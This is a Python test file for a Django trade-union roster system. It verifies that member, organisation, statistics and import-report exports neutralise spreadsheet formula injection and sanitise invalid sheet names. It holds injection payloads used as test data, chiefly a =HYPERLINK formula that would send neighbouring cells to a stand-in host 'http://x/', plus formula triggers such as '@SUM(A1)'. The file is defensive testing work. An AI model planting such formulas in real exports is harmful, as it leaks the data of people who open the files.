"""Every file the product writes keeps user text as text: a name such as =HYPERLINK("http://x/?"&F,"点击") is never a
formula in an .xlsx (it would send neighbouring cells away when the file is opened) and is neutralised in a .csv;
and a union whose name holds characters a sheet name may not (/ : * ? [ ] \\) can still export its tables."""

import csv
import io
import re
import zipfile
from xml.etree import ElementTree

import pytest
from django.urls import reverse
from django.utils import timezone

from gonghui.common.workbooks import csv_cell, csv_writer, new_workbook, sheet_name
from gonghui.demo.rosters import HEADINGS, roster_row
from gonghui.jobs.models import JobRun, JobStatus
from gonghui.orgs.models import OrgType
from gonghui.orgs.services import org_create
from gonghui.orgs.tasks import org_roster_export_request
from tests.imports.roster_factories import csv_bytes, run_import, workers
from tests.members.factories import enrol

NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
LINK = '=HYPERLINK("http://x/?"&F,"点击")'  # a name without digits, which a person's name may not hold
SUM = "=1+1"
HOSTILE_ORG = '=HYPERLINK("http://x/?"&A,"点击")'
ODD_ORG = "A/B:C*D?E[F]G\\H工会"


def workbook_parts(content: bytes) -> dict[str, bytes]:
    book = zipfile.ZipFile(io.BytesIO(content))
    return {name: book.read(name) for name in book.namelist()}


def assert_no_formula(content: bytes) -> None:
    """No cell formula and no hyperlink in any sheet."""
    for name, part in workbook_parts(content).items():
        if name.startswith("xl/worksheets/"):
            assert not re.search(rb"<f[ >]", part), f"a formula in {name}"
            assert b"<hyperlink" not in part, f"a hyperlink in {name}"


def column_index(letters: str) -> int:
    index = 0
    for letter in letters:
        index = index * 26 + ord(letter) - 64
    return index - 1


def cell_texts(content: bytes) -> list[list[str]]:
    """Every sheet's rows as lists of cell text by column ("" for an empty cell; shared and inline strings, numbers
    as written)."""
    parts = workbook_parts(content)
    shared = []
    if "xl/sharedStrings.xml" in parts:
        for item in ElementTree.fromstring(parts["xl/sharedStrings.xml"]).findall(f"{NS}si"):  # noqa: S314
            shared.append("".join(t.text or "" for t in item.iter(f"{NS}t")))
    rows = []
    for name in sorted(n for n in parts if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)):
        for row in ElementTree.fromstring(parts[name]).iter(f"{NS}row"):  # noqa: S314 (our own export)
            cells: dict[int, str] = {}
            for cell in row.findall(f"{NS}c"):
                column = column_index(re.match(r"[A-Z]+", cell.get("r")).group())
                if cell.get("t") == "inlineStr":
                    cells[column] = "".join(t.text or "" for t in cell.iter(f"{NS}t"))
                elif (value := cell.find(f"{NS}v")) is not None:
                    cells[column] = shared[int(value.text)] if cell.get("t") == "s" else value.text
            rows.append([cells.get(i, "") for i in range(max(cells, default=-1) + 1)])
    return rows


def sheet_names(content: bytes) -> list[str]:
    workbook = ElementTree.fromstring(workbook_parts(content)["xl/workbook.xml"])  # noqa: S314 (our own export)
    return [sheet.get("name") for sheet in workbook.iter(f"{NS}sheet")]


def job_file(job: JobRun) -> bytes:
    job.refresh_from_db()
    assert job.status == JobStatus.SUCCEEDED, job.error
    with job.result_file.open("rb") as handle:
        return handle.read()


# ---------------------------------------------------------------- the shared helpers


def test_a_new_workbook_writes_every_string_as_text():
    buffer = io.BytesIO()
    book = new_workbook(buffer)
    sheet = book.add_worksheet("名册")
    values = [SUM, LINK, "http://x.example/a", "0012345", "+8613812341234", "{=1+1}", "mailto:a@b.cn"]
    for col, value in enumerate(values):
        sheet.write(0, col, value)
    sheet.merge_range(1, 0, 1, 3, SUM)
    book.close()
    content = buffer.getvalue()
    assert_no_formula(content)
    assert cell_texts(content) == [values, [SUM]]


@pytest.mark.parametrize(
    ("text", "taken", "expected"),
    [
        ("会员统计表", [], "会员统计表"),
        (ODD_ORG, [], "A_B_C_D_E_F_G_H工会"),
        ("'引号'", [], "引号"),
        ("", [], "Sheet"),
        ("///", [], "___"),
        ("History", [], "History_"),
        ("一" * 40, [], "一" * 31),
        ("名册", ["名册"], "名册(2)"),
        ("名册", ["名册", "名册(2)"], "名册(3)"),
        ("一" * 40, ["一" * 31], "一" * 28 + "(2)"),
    ],
)
def test_sheet_names_are_valid_and_unique(text, taken, expected):
    assert sheet_name(text, taken=taken) == expected


def test_a_workbook_names_its_sheets_validly():
    buffer = io.BytesIO()
    book = new_workbook(buffer)
    book.add_worksheet(ODD_ORG)
    book.add_worksheet(ODD_ORG)
    book.close()
    assert sheet_names(buffer.getvalue()) == ["A_B_C_D_E_F_G_H工会", "A_B_C_D_E_F_G_H工会(2)"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (SUM, "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("张三", "张三"),
        ("a=1", "a=1"),
        ("", ""),
        (-5, -5),
        (-2.5, -2.5),
        (7, 7),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised(value, expected):
    assert csv_cell(value) == expected


def test_the_csv_writer_neutralises_text_and_keeps_numbers():
    buffer = io.StringIO()
    csv_writer(buffer, lineterminator="\n").writerow([-3, SUM, "张三", LINK])
    assert buffer.getvalue() == '-3,\'=1+1,张三,"\'=HYPERLINK(""http://x/?""&F,""点击"")"\n'


# ---------------------------------------------------------------- every export the product offers


@pytest.fixture
def hostile(tree, system):
    """A member whose name and work unit are formulas, in a union whose own name is one, under the town."""
    union = org_create(
        actor=system,
        parent=tree["SZ-GS-T01"],
        name=HOSTILE_ORG,
        code="SZ-GS-T01-X1",
        org_type=OrgType.GRASSROOTS,
        region_code="320508",
    )
    union.refresh_from_db()
    org_create(
        actor=system,
        parent=tree["SZ-GS-T01"],
        name=ODD_ORG,
        code="SZ-GS-T01-X2",
        org_type=OrgType.GRASSROOTS,
        region_code="320508",
    )
    member = enrol(system, union, name=LINK, seq=31, work_unit=SUM, post=LINK)
    return {"union": union, "member": member}


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_member_roster_export_keeps_formulas_as_text(hostile, login, django_capture_on_commit_callbacks, fmt):
    with django_capture_on_commit_callbacks(execute=True):
        response = login("town_cadre").post(
            reverse("admin:member_export"), {"org": str(hostile["union"].id), "fmt": fmt}
        )
    assert response.status_code == 302
    content = job_file(JobRun.objects.get(kind="member_roster_export"))
    if fmt == "xlsx":
        assert_no_formula(content)
        rows = cell_texts(content)
        assert rows[0] == [f"{HOSTILE_ORG}会员名册"]
        member_row = rows[3]
        assert member_row[1] == LINK
        assert member_row[12:14] == [SUM, LINK]
        assert member_row[16] == HOSTILE_ORG
    else:
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        assert rows[1][1] == "'" + LINK
        assert rows[1][12:14] == ["'" + SUM, "'" + LINK]
        assert rows[1][16] == "'" + HOSTILE_ORG
        assert rows[1][0] == "1"


def test_the_org_roster_export_keeps_formulas_as_text(hostile, actors, tree, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        job = org_roster_export_request(actor=actors["town_cadre"], org=tree["SZ-GS-T01"])
    content = job_file(job)
    assert_no_formula(content)
    names = [row[1] for row in cell_texts(content)[3:] if len(row) > 1]
    assert HOSTILE_ORG in names and ODD_ORG in names


def test_the_org_roster_of_a_union_with_a_formula_name(hostile, actors, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        job = org_roster_export_request(actor=actors["town_cadre"], org=hostile["union"])
    content = job_file(job)
    assert_no_formula(content)
    assert cell_texts(content)[0] == [f"{HOSTILE_ORG}组织名册"]


@pytest.mark.parametrize("report", ["members", "founding", "annual_xlsx"])
def test_the_statistics_tables_keep_formulas_as_text(hostile, login, report):
    response = login("town_cadre").get(reverse("admin:stats_report", args=[report]), {"org": "SZ-GS-T01"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert_no_formula(content)
    if report != "annual_xlsx":
        assert [HOSTILE_ORG] in [row[:1] for row in cell_texts(content)]


@pytest.mark.parametrize("report", ["members", "founding", "annual_xlsx"])
def test_a_union_whose_name_cannot_be_a_sheet_name_exports_its_tables(hostile, login, report):
    response = login("town_cadre").get(reverse("admin:stats_report", args=[report]), {"org": "SZ-GS-T01-X2"})
    assert response.status_code == 200
    content = response.content
    assert cell_texts(content)[0][0].startswith(ODD_ORG)
    (name,) = sheet_names(content)
    assert name == sheet_name(cell_texts(content)[0][0])
    assert len(name) <= 31 and not re.search(r"[\[\]:*?/\\]", name)


def test_a_statistics_table_titled_by_a_formula_name(hostile, login):
    response = login("town_cadre").get(reverse("admin:stats_report", args=["members"]), {"org": hostile["union"].code})
    assert response.status_code == 200
    assert_no_formula(response.content)
    assert cell_texts(response.content)[0] == [f"{HOSTILE_ORG}会员统计表"]


@pytest.mark.parametrize("code", ["SZ-GS-T01-X1", "SZ-GS-T01-X2"])
def test_the_service_figures_keep_formulas_as_text(hostile, login, code):
    response = login("town_cadre").get(reverse("admin:service_figures"), {"org": code, "format": "xlsx"})
    assert response.status_code == 200
    assert_no_formula(response.content)
    name = hostile["union"].name if code.endswith("X1") else ODD_ORG
    assert cell_texts(response.content)[0] == [f"{name}职工服务统计表"]


def test_the_import_problem_report_keeps_formulas_as_text(tree, system):
    today = timezone.localdate()
    worker = workers(71, today, 1)[0]
    row = roster_row(1, worker)
    row[HEADINGS.index("姓名")] = LINK
    row[HEADINGS.index("证件号码")] = SUM  # refused: the row goes to the problem report unchanged
    job = run_import(system, tree["SZ-GS-T01-12"], "r.csv", csv_bytes([["登记表"], HEADINGS, row]))
    content = job_file(job)
    assert_no_formula(content)
    rows = cell_texts(content)
    assert rows[2][HEADINGS.index("姓名")] == LINK
    assert rows[2][HEADINGS.index("证件号码")] == SUM
